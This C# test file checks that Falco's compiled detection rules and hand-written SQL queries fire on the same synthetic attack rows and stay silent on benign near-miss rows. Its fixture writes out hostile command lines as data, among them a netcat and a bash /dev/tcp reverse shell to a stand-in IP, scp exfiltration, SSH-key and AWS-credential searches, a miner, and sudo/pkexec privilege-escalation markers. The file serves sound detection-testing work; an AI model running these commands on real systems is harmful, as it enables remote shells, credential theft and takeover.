// SPDX-License-Identifier: Apache-2.0
namespace FarQuery.Rules.Tests;

/// <summary>Falco's stock rules, compiled, against the hand-written queries/ of the same rules, on the same rows: both
/// must fire on the same events (docs/falco-fields.md, "Hand-written detections and the compiler").</summary>
public sealed class HandWrittenComparisonTests
{
    private static readonly Lazy<CompileReport?> Stock = new(() =>
    {
        if (Paths.Falco is not { } dir)
        {
            return null;
        }

        return RuleCompiler.Compile([.. new[] { "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml" }
            .Select(f => RuleFileParser.Parse(File.ReadAllText(Path.Join(dir, f)), f))]);
    });

    /// <summary>Rows a small attack leaves in the event tables, one pid per event: attack rows (1xx..4xx) and near-miss
    /// benign rows (5xx, 6xx) each detection must stay silent on.</summary>
    private static EventDatabase Events()
    {
        var db = new EventDatabase();
        db.Add("users", ("uid", 0), ("username", "root"));
        db.Add("users", ("uid", 1000), ("username", "app"));
        db.Add("users", ("uid", 65534), ("username", "nobody"));
        void Exec(long pid, string name, string cmdline, string parent = "sh", string ancestors = "sh containerd-shim", string? path = null, string? env = null, long? auid = 4294967295) =>
            db.Add("process_events", ("syscall", "execve"), ("pid", pid), ("name", name), ("cmdline", cmdline), ("path", path ?? "/usr/bin/" + name), ("exec_path", path ?? "/usr/bin/" + name),
                ("parent", 1), ("parent_name", parent), ("parent_cmdline", parent + " -c x"), ("ancestors", ancestors), ("uid", 0), ("auid", auid), ("cwd", "/srv"), ("env", env));
        void Call(long pid, string syscall, string name, string detail, long uid = 0, string parent = "sh") =>
            db.Add("process_events", ("syscall", syscall), ("pid", pid), ("name", name), ("cmdline", name), ("path", "/usr/bin/" + name), ("detail", detail),
                ("parent", 1), ("parent_name", parent), ("parent_cmdline", parent), ("ancestors", parent + " containerd-shim"), ("uid", uid), ("euid", uid), ("auid", 4294967295), ("status", "succeeded"), ("result", 0));
        void File(long pid, string operation, string syscall, string path, string flags = "0101", string? mode = null, string? dest = null, string name = "sh", long result = 3,
            string parent = "bash", string ancestors = "bash", string? raw = null) =>
            db.Add("process_file_events", ("operation", operation), ("syscall", syscall), ("pid", pid), ("path", path), ("path_raw", raw ?? path), ("flags", flags), ("mode", mode), ("dest_path", dest),
                ("status", result >= 0 || syscall == "inotify" ? "succeeded" : "failed"), ("result", result), ("name", name), ("cmdline", name), ("parent_name", parent), ("ancestors", ancestors), ("uid", 0), ("auid", 4294967295), ("executable", "/bin/" + name));
        void Socket(long pid, string action, string syscall, string name, string? ip, int port, int protocol = 6, int family = 2, string? cmdline = null) =>
            db.Add("socket_events", ("action", action), ("syscall", syscall), ("pid", pid), ("name", name), ("cmdline", cmdline ?? name), ("path", "/usr/bin/" + name), ("family", family), ("protocol", protocol),
                ("local_address", family == 17 ? null : "172.17.0.2"), ("local_port", family == 17 ? null : 40000 + pid), ("remote_address", ip), ("remote_port", ip is null ? null : port),
                ("status", "succeeded"), ("result", 0), ("auid", 4294967295));
        void Connect(long pid, string name, string ip, int port, int protocol = 6, string? cmdline = null) => Socket(pid, "connect", "connect", name, ip, port, protocol, cmdline: cmdline);

        Exec(101, "nc", "nc -e /bin/sh 198.51.100.1 4444");
        Exec(102, "find", "find / -name id_rsa");
        Exec(103, "grep", "grep -r BEGIN RSA PRIVATE /home");
        Exec(104, "shred", "shred -u secrets");
        Exec(105, "xmrig", "xmrig -o stratum+tcp://pool.example:3333");
        Exec(106, "sh", "sh -c ls", parent: "httpd", ancestors: "httpd containerd-shim");
        Exec(107, "ls", "ls /var/lib/mysql", parent: "mysqld", ancestors: "mysqld containerd-shim");
        Exec(108, "base64", "base64 -d");
        Exec(109, "nmap", "nmap -sn 10.0.0.0/24");
        Exec(110, "apt-get", "apt-get install -y netcat");
        Exec(111, "scp", "scp db.dump user@198.51.100.1:/tmp/");
        Exec(112, "wget", "wget http://198.51.100.1/x");
        Exec(113, "x", "/dev/shm/x", path: "/dev/shm/x");
        Exec(114, "3", "/proc/self/fd/3 run", path: "/memfd:payload (deleted)");
        Exec(115, "ls", "ls -la");
        Exec(116, "cat", "cat /srv/app.conf");
        Exec(117, "sh", "sh -c uname -a 2>&1", parent: "nginx", ancestors: "nginx containerd-shim");
        Connect(201, "curl", "169.254.169.254", 80);
        Connect(202, "python3", "198.51.100.9", 443);
        File(301, "open", "openat", "/etc/ld.so.preload");
        File(302, "open", "openat", "/bin/evil");
        File(303, "mkdir", "mkdir", "/usr/bin/newdir", flags: "0", mode: "0755");
        File(304, "creat", "creat", "/dev/evil", flags: "01101");
        File(305, "rename", "renameat2", "/root/.bash_history", dest: "/tmp/h");
        File(306, "chmod", "fchmodat", "/srv/tool", mode: "04755");
        File(307, "symlink", "symlinkat", "/srv/link", dest: "/etc/shadow", name: "ln");
        File(308, "open", "openat", "/etc/shadow", flags: "0", name: "cat");
        File(309, "open", "openat", "/srv/app.log", flags: "02101");
        File(310, "open", "openat", "/etc/hosts", flags: "0", name: "curl");

        // The 22 rules compared second: attack rows 4xx, near misses 5xx.
        Call(401, "setns", "nsenter", "fd=3 path=/proc/1/ns/mnt nstype=0x0");
        Call(501, "setns", "runc:[2:INIT]", "fd=3 path=/proc/1/ns/mnt nstype=0x0");
        Call(502, "setns", "helper", "fd=3 path=/proc/1/ns/net nstype=0x0", parent: "dockerd");
        File(402, "open", "openat", "/var/log/syslog", flags: "01001", name: "python3");
        File(503, "open", "openat", "/var/log/syslog", flags: "02001", name: "python3");
        File(504, "open", "openat", "/var/log/nginx/access.log", flags: "01001", name: "python3");
        File(403, "link", "linkat", "/etc/shadow", dest: "/tmp/s", flags: "0", name: "ln");
        File(505, "link", "linkat", "/srv/data", dest: "/tmp/d", flags: "0", name: "ln");
        File(404, "open", "openat", "/etc/passwd", flags: "0", name: "php-fpm", parent: "php-fpm", raw: "/srv/www/../../etc/passwd");
        File(405, "open", "openat", "/etc/nope", flags: "0", name: "php-fpm", parent: "php-fpm", raw: "/srv/www/../../etc/nope", result: -2);
        File(406, "open", "openat", "/etc/shadow", flags: "01", name: "php-fpm", parent: "php-fpm", raw: "/srv/www/../../etc/shadow", result: -13);
        File(506, "open", "openat", "/etc/passwd", flags: "0", name: "cat", parent: "bash", raw: "/srv/www/../../etc/passwd");
        File(507, "open", "openat", "/etc/passwd", flags: "0", name: "php-fpm", parent: "php-fpm");
        Exec(407, "curl", "curl http://198.51.100.1/", env: "HTTP_PROXY=http://198.51.100.3:3128 PATH=/bin");
        Exec(408, "wget", "wget http://198.51.100.1/", env: "PATH=/bin http_proxy=http://198.51.100.3:3128");
        Exec(434, "curl", "curl http://198.51.100.1/", env: "PATH=/bin MY_HTTP_PROXY_HOST=198.51.100.3");
        Exec(508, "curl", "curl http://198.51.100.1/", env: "PATH=/bin HTTPS_PROXY=http://198.51.100.3:3128");
        Exec(509, "python3", "python3 app.py", env: "HTTP_PROXY=http://198.51.100.3:3128");
        Connect(409, "ssh", "198.51.100.7", 443, cmdline: "ssh -p 443 user@198.51.100.7");
        Connect(510, "ssh", "198.51.100.7", 22, cmdline: "ssh user@198.51.100.7");
        Connect(511, "ssh", "172.20.0.5", 443, cmdline: "ssh -p 443 user@172.20.0.5");
        Connect(512, "curl", "198.51.100.7", 443);
        Exec(410, "grep", "grep -ri AWS_SECRET_ACCESS_KEY /home");
        Exec(411, "find", "find / -path */.aws/credentials");
        Exec(513, "grep", "grep -r ERROR /var/log");
        Exec(514, "find", "find / -path */.AWS/CREDENTIALS");
        Exec(412, "su", "su", env: "GLIBC_TUNABLES=glibc.malloc.mxfast=1 PATH=/bin");
        Exec(435, "su", "su", env: "glibc_tunables PATH=/bin");
        Exec(515, "su", "su", env: "GLIBC_OTHER=1 PATH=/bin");
        File(413, "unlink", "unlinkat", "/usr/bin/ps", flags: "0", name: "rm");
        File(414, "rename", "renameat2", "/tmp/x", dest: "/bin/ls", flags: "0", name: "mv");
        File(415, "unlink", "unlinkat", "/usr/bin/tool", flags: "0", name: "rm", parent: "dpkg", ancestors: "dpkg apt-get");
        File(516, "unlink", "unlinkat", "/usr/bin/oldtool", flags: "0", name: "dpkg");
        File(517, "unlink", "unlinkat", "/srv/tmp.txt", flags: "0", name: "rm");
        File(416, "open", "openat", "/root/.bashrc", flags: "02001", name: "python3");
        File(518, "open", "openat", "/root/.bashrc", flags: "02001", name: "bash");
        File(519, "open", "openat", "/root/.bashrc", flags: "0", name: "cat");
        File(520, "open", "openat", "/etc/zsh/conf.d/x", flags: "01101", name: "python3");
        Call(417, "setuid", "python3", "id=0", uid: 1000);
        Call(521, "setuid", "python3", "id=1000", uid: 0);
        Call(522, "setuid", "sudo", "id=0", uid: 1000);
        Call(523, "setuid", "httpd", "id=65534", uid: 65534);
        Socket(418, "socket", "socket", "tcpdump", null, 0, protocol: 768, family: 17);
        Socket(524, "bind", "bind", "tcpdump", null, 0, protocol: 768, family: 17);
        Exec(419, "pkexec", "pkexec");
        Exec(436, "pkexec", "pkexec", auid: null);
        Exec(525, "pkexec", "pkexec /usr/bin/id");
        Exec(526, "pkexec", "pkexec", auid: 0);
        Call(420, "ptrace", "x", "request=0 pid=0");
        Call(421, "ptrace", "gdb", "request=16 pid=42");
        Call(422, "ptrace", "gdb", "request=16902 pid=42");
        Call(527, "ptrace", "gdb", "request=2 pid=42");
        File(423, "open", "openat", "/proc/1/environ", flags: "0", name: "cat");
        File(528, "open", "openat", "/proc/1/cmdline", flags: "0", name: "cat");
        File(529, "open", "openat", "/proc/1/environ", flags: "0", name: "scsi_id");
        File(424, "open", "openat", "/root/.ssh/id_rsa", flags: "0", name: "cat");
        File(425, "open", "openat", "/home/app/.ssh/authorized_keys", flags: "0", name: "python3");
        File(530, "open", "openat", "/root/.ssh/id_rsa", flags: "0", name: "ssh");
        File(531, "open", "openat", "/srv/ssh/config", flags: "0", name: "cat");
        // The default config's sensitive reads (docs/tracer.md §5.2): flags 00 and result -1 when the reader had
        // closed the file, its descriptor's when found.
        File(438, "open", "inotify", "/etc/shadow", flags: "00", name: "cat", result: -1);
        File(439, "open", "inotify", "/proc/1/environ", flags: "00", name: "cat", result: -1);
        File(440, "open", "inotify", "/root/.ssh/id_rsa", flags: "0100000", name: "python3", result: 4);
        File(441, "open", "inotify", "/etc/shadow", flags: "00", name: "php-fpm", parent: "php-fpm", raw: "/srv/www/../../etc/shadow", result: -1);
        File(546, "open", "inotify", "/etc/shadow", flags: "00", name: "passwd", result: -1);
        File(547, "open", "inotify", "/root/.ssh/id_rsa", flags: "00", name: "ssh", result: -1);
        Exec(426, "bash", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", parent: "nginx", ancestors: "nginx containerd-shim");
        Exec(427, "python3", "python3 -c 'import socket,os,pty;s=socket.socket()'", ancestors: "sh php-fpm containerd-shim");
        Exec(532, "bash", "bash -i", ancestors: "sh sh sh nginx");
        Exec(533, "bash", "bash -c ls", parent: "nginx", ancestors: "nginx containerd-shim");
        Exec(534, "sh", "sh -i", parent: "nginx", ancestors: "nginx containerd-shim");
        Exec(428, "crontab", "crontab -e");
        File(429, "creat", "openat", "/etc/cron.d/job", flags: "0101", name: "python3");
        File(535, "open", "openat", "/etc/crontab", flags: "0", name: "cat");
        File(536, "creat", "creat", "/etc/cron.d/other", flags: "01101", name: "python3");
        Exec(430, "sudoedit", "sudoedit -s \\");
        Exec(437, "sudo", "sudo -i x\\ y", auid: null);
        Exec(537, "sudo", "sudo -s");
        Exec(538, "sudoedit", "sudoedit -s \\", auid: 0);
        Exec(539, "sudo", "sudo -S true \\");
        Connect(431, "python3", "198.51.100.20", 5555, protocol: 17);
        Connect(540, "python3", "10.0.0.2", 53, protocol: 17);
        Connect(541, "python3", "198.51.100.20", 3306, protocol: 17);
        Connect(542, "python3", "198.51.100.20", 5555);
        File(432, "open", "openat", "/usr/local/bin/evil", flags: "01101", name: "curl");
        File(433, "open", "openat", "/root/.ssh/authorized_keys", flags: "02001", name: "python3");
        File(543, "open", "openat", "/lib/x86_64-linux-gnu/libevil.so", flags: "0101", name: "cp");
        File(544, "open", "openat", "/usr/lib/libx.so", flags: "0101", name: "dpkg");
        File(545, "open", "openat", "/usr/lib/libx.so", flags: "0", name: "cat");

        // Near misses of the 24 rules compared first.
        Exec(601, "nc", "nc -z 198.51.100.1 80");
        Exec(602, "find", "find / -name *.log");
        Exec(603, "rm", "rm -rf /tmp/cache");
        Exec(604, "curl", "curl https://pool.example/stratum");
        Exec(605, "sh", "sh -c ls", parent: "bash", ancestors: "bash containerd-shim");
        Exec(606, "sh", "sh -c /usr/bin/healthcheck", parent: "nginx", ancestors: "nginx containerd-shim");
        Exec(607, "mysqld", "mysqld --initialize", parent: "mysqld", ancestors: "mysqld containerd-shim");
        Exec(608, "base64", "base64 file.txt");
        Exec(609, "dpkg", "dpkg -i x.deb", parent: "apt-get", ancestors: "apt-get sh containerd-shim");
        Exec(610, "cp", "cp db.dump /tmp/");
        Exec(611, "curl", "curl http://198.51.100.1/health");
        Exec(612, "app", "/srv/app", path: "/srv/app");
        File(613, "open", "openat", "/usr/bin/tool", flags: "01101", name: "dpkg");
        File(614, "mkdir", "mkdir", "/srv/newdir", flags: "0", mode: "0755");
        File(615, "open", "openat", "/dev/null", flags: "0101", name: "python3");
        File(616, "rename", "renameat2", "/srv/a.log", dest: "/srv/b.log", flags: "0", name: "mv");
        File(617, "chmod", "fchmodat", "/srv/tool", mode: "0755", flags: "0", name: "chmod");
        File(618, "symlink", "symlinkat", "/srv/link2", dest: "/srv/config", flags: "0", name: "ln");
        return db;
    }

    /// <summary>Each hand-written query and its compiled stock rule fire on exactly the same events; both fire on the
    /// rule's attack rows and stay silent on its near misses.</summary>
    [Theory]
    [InlineData("netcat_remote_code_execution", "Netcat Remote Code Execution in Container", "101", "601")]
    [InlineData("search_private_keys_or_passwords", "Search Private Keys or Passwords", "102,103", "602")]
    [InlineData("remove_bulk_data_from_disk", "Remove Bulk Data from Disk", "104", "603")]
    [InlineData("known_cryptominer_process", "Known Cryptominer Process Executed", "105", "115")]
    [InlineData("detect_crypto_miners_stratum", "Detect crypto miners using the Stratum protocol", "105", "604")]
    [InlineData("run_shell_untrusted", "Run shell untrusted", "106", "605")]
    [InlineData("web_server_spawned_shell", "Web Server Spawned Shell", "106", "606")]
    [InlineData("db_program_spawned_process", "DB program spawned process", "107", "607")]
    [InlineData("decoding_payload_in_container", "Decoding Payload in Container", "108", "608")]
    [InlineData("launch_suspicious_network_tool", "Launch Suspicious Network Tool in Container", "109", "610")]
    [InlineData("launch_package_management_process", "Launch Package Management Process in Container", "110", "609")]
    [InlineData("launch_remote_file_copy_tools", "Launch Remote File Copy Tools in Container", "111", "610")]
    [InlineData("launch_ingress_remote_file_copy_tools", "Launch Ingress Remote File Copy Tools in Container", "112", "611")]
    [InlineData("execution_from_dev_shm", "Execution from /dev/shm", "113", "612")]
    [InlineData("fileless_execution_via_memfd", "Fileless execution via memfd_create", "114", "115")]
    [InlineData("contact_ec2_instance_metadata_service", "Contact EC2 Instance Metadata Service From Container", "201", "202")]
    [InlineData("write_below_etc", "Write below etc", "301", "310")]
    [InlineData("write_below_binary_dir", "Write below binary dir", "302", "613")]
    [InlineData("mkdir_binary_dirs", "Mkdir binary dirs", "303", "614")]
    [InlineData("create_files_below_dev", "Create files below dev", "304", "615")]
    [InlineData("delete_or_rename_shell_history", "Delete or rename shell history", "305", "616")]
    [InlineData("set_setuid_or_setgid_bit", "Set Setuid or Setgid bit", "306", "617")]
    [InlineData("create_symlink_over_sensitive_files", "Create Symlink Over Sensitive Files", "307", "618")]
    [InlineData("read_sensitive_file_untrusted", "Read sensitive file untrusted", "308,438", "310,546")]
    [InlineData("change_thread_namespace", "Change thread namespace", "401", "501,502")]
    [InlineData("clear_log_activities", "Clear Log Activities", "402", "503,504")]
    [InlineData("create_hardlink_over_sensitive_files", "Create Hardlink Over Sensitive Files", "403", "505")]
    [InlineData("directory_traversal_monitored_file_read", "Directory traversal monitored file read", "404,405,406,441", "506,507")]
    [InlineData("disallowed_http_proxy_env", "Program run with disallowed http proxy env", "407,408,434", "508,509")]
    [InlineData("disallowed_ssh_connection_non_standard_port", "Disallowed SSH Connection Non Standard Port", "409", "510,511,512")]
    [InlineData("find_aws_credentials", "Find AWS Credentials", "410,411", "513,514")]
    [InlineData("glibc_tunables_env_misuse", "Potential Local Privilege Escalation via Environment Variables Misuse", "412,435", "515")]
    [InlineData("modify_binary_dirs", "Modify binary dirs", "413,414,415", "516,517")]
    [InlineData("modify_shell_configuration_file", "Modify Shell Configuration File", "416", "518,519,520")]
    [InlineData("non_sudo_setuid", "Non sudo setuid", "417", "521,522,523")]
    [InlineData("packet_socket_created", "Packet socket created in container", "418", "524")]
    [InlineData("polkit_local_privilege_escalation", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "419,436", "525,526")]
    [InlineData("ptrace_anti_debug", "PTRACE anti-debug attempt", "420", "421,527")]
    [InlineData("ptrace_attached_to_process", "PTRACE attached to process", "421,422", "420,527")]
    [InlineData("read_environment_variable_from_proc_files", "Read environment variable from /proc files", "423,439", "528,529")]
    [InlineData("read_ssh_information", "Read ssh information", "424,425,440", "530,531,547")]
    [InlineData("reverse_shell_from_web_server", "Reverse Shell from Web Server", "426,427", "532,533,534")]
    [InlineData("schedule_cron_jobs", "Schedule Cron Jobs", "428,429", "535,536")]
    [InlineData("sudo_potential_privilege_escalation", "Sudo Potential Privilege Escalation", "430,437", "537,538,539")]
    [InlineData("unexpected_udp_traffic", "Unexpected UDP Traffic", "431", "540,541,542")]
    [InlineData("write_below_monitored_dir", "Write below monitored dir", "432,433", "543,544,545")]
    public void Compiled_SameRowsAsHandWritten_FireOnTheSameEvents(string query, string rule, string fires, string silent)
    {
        if (Stock.Value is not { } report)
        {
            return;
        }

        var compiled = Compile.Rule(report, rule);
        Assert.True(compiled.Status == RuleStatus.Compiled, $"{rule}: {compiled.Reason}");
        using var db = Events();
        var all = db.Run("SELECT pid FROM process_events UNION ALL SELECT pid FROM socket_events UNION ALL SELECT pid FROM process_file_events").Select(r => r["pid"]).ToHashSet(StringComparer.Ordinal);
        var hand = db.Run(File.ReadAllText(Path.Join(Paths.Root, "queries", query + ".sql"))).Select(r => r["pid"]).Distinct().Order(StringComparer.Ordinal).ToList();
        var falco = db.Run("SELECT p.pid FROM (" + compiled.Query!.Sql.TrimEnd(';') + ") c JOIN ("
            + "SELECT eid, pid FROM process_events UNION ALL SELECT eid, pid FROM socket_events UNION ALL SELECT eid, pid FROM process_file_events) p ON p.eid = c.eid")
            .Select(r => r["pid"]).Distinct().Order(StringComparer.Ordinal).ToList();
        Assert.Equal(hand, falco);
        foreach (var pid in fires.Split(','))
        {
            Assert.True(hand.Contains(pid), $"{query} did not fire on attack row {pid}; it fired on [{string.Join(", ", hand)}]");
        }

        foreach (var pid in silent.Split(','))
        {
            Assert.True(all.Contains(pid), $"near-miss row {pid} is not in the event set");
            Assert.False(hand.Contains(pid), $"{query} fired on near-miss row {pid}");
        }
    }
}
